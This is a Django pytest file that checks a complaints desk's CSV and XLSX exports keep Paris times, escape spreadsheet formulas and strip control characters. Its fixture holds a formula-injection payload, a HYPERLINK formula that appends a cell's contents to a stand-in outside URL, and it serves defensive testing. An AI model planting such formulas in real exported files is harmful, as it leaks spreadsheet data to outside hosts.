"""A list of the desk as a file: hours of Paris, and words that no table program runs."""

from __future__ import annotations

import csv
import io
from datetime import datetime

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from booking.models import Complaint
from booking.relations.complaints import complain
from members.journal import VISITOR
from members.models import User
from oti.lib.dates import PARIS
from tests.booking.relations.stays import past_stay
from tests.cast import FakeBank

pytestmark = pytest.mark.django_db
BOMB = '=HYPERLINK("https://example.org/?"&A1,"Open")'
AT = datetime(2027, 7, 20, 23, 30, tzinfo=PARIS)


@pytest.fixture
def complaint(bank: FakeBank, at) -> Complaint:
    at(AT)
    order = past_stay(bank)
    return complain(order, BOMB, channel="site", actor=VISITOR, now=AT)


@pytest.fixture
def desk(staff: User, complaint: Complaint) -> Client:
    client = Client(headers={"Accept-Language": "en"})
    client.force_login(staff)
    return client


def content(desk: Client, kind: str) -> bytes:
    answer = desk.get(reverse("desk_complaints:index"), {"export": kind})
    assert answer.status_code == 200
    return b"".join(answer) if answer.streaming else answer.content


def test_what_a_guest_typed_is_no_formula_in_a_csv(desk: Client):
    [row] = csv.DictReader(io.StringIO(content(desk, "csv").decode("utf-8-sig")))
    assert f"'{BOMB}" in row.values()
    assert BOMB not in row.values()
    assert "2027-07-20 23:30:00+02:00" in row.values()


def test_a_sheet_has_the_hours_of_paris_and_no_formula(desk: Client):
    [_names, row] = load_workbook(io.BytesIO(content(desk, "xlsx"))).active.iter_rows()
    assert datetime(2027, 7, 20, 23, 30) in [cell.value for cell in row]
    [words] = [cell for cell in row if cell.value == BOMB]
    assert words.data_type != "f"


def test_a_sign_that_no_sheet_holds_keeps_no_file_from_being_made(
    desk: Client, complaint: Complaint
):
    Complaint.objects.update(words="before\x0bafter")
    row = [*load_workbook(io.BytesIO(content(desk, "xlsx"))).active.iter_rows(values_only=True)][1]
    assert "beforeafter" in row
